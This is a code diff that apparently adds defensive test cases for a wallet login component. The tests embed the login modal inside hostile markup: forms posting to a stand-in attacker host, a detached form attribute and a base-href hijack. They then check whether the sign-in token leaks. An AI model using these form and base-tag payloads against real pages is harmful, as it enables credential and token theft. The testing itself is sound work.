@@ -142,15 +142,40 @@ export const markup: HostilePage = async visitor => {
       ]
     },
   )
+  // forms of theirs around a login, which who is signed in already is done with at once
+  const around = '<wallet-login-modal open name="token" submit-on-complete></wallet-login-modal>'
+  const forms = await playAll(
+    [
+      { name: 'a form of theirs around a login', after: `<form action="${evil}/take" method="post">${around}</form>` },
+      {
+        name: 'a form of theirs for a login elsewhere',
+        before: `<form id="theirs" action="${evil}/take"></form>`,
+        after: around.replace('open', 'open form="theirs"'),
+      },
+      {
+        name: 'a base of theirs under a form of the page',
+        before: `<base href="${evil}/">`,
+        after: `<form action="take" method="post">${around}</form>`,
+      },
+    ],
+    async hostile => {
+      const before = await visitor.standing()
+      await visitor.visits(hostile)
+      await visitor.settles()
+      const done = await visitor.tab.ask<boolean>('find("wallet-login-modal")?.result !== null').catch(() => true)
+      return [...(done ? [] : ['the login is not over']), ...(await harm(visitor, before))]
+    },
+  )
   // where the host names its provider by markup alone, whichever stands first is asked, and told nothing
   const before = await visitor.standing()
   await visitor.visits({ before: `<wallet-app app-id="${visitor.appId}" api-url="${evil}"></wallet-app>`, after: PAY })
   await visitor.settles()
   const asked = visitor.world.driver.requests(visitor.appId).some(({ headers }) => headers['host']?.startsWith('evil.'))
   return {
-    tried: verdict.tried + 1,
+    tried: verdict.tried + forms.tried + 1,
     broken: [
       ...verdict.broken,
+      ...forms.broken,
       ...(await harm(visitor, before)).map(what => `another provider first: ${what}`),
       ...(asked ? [] : ['another provider first: it was never asked, so that nothing is shown']),
     ],
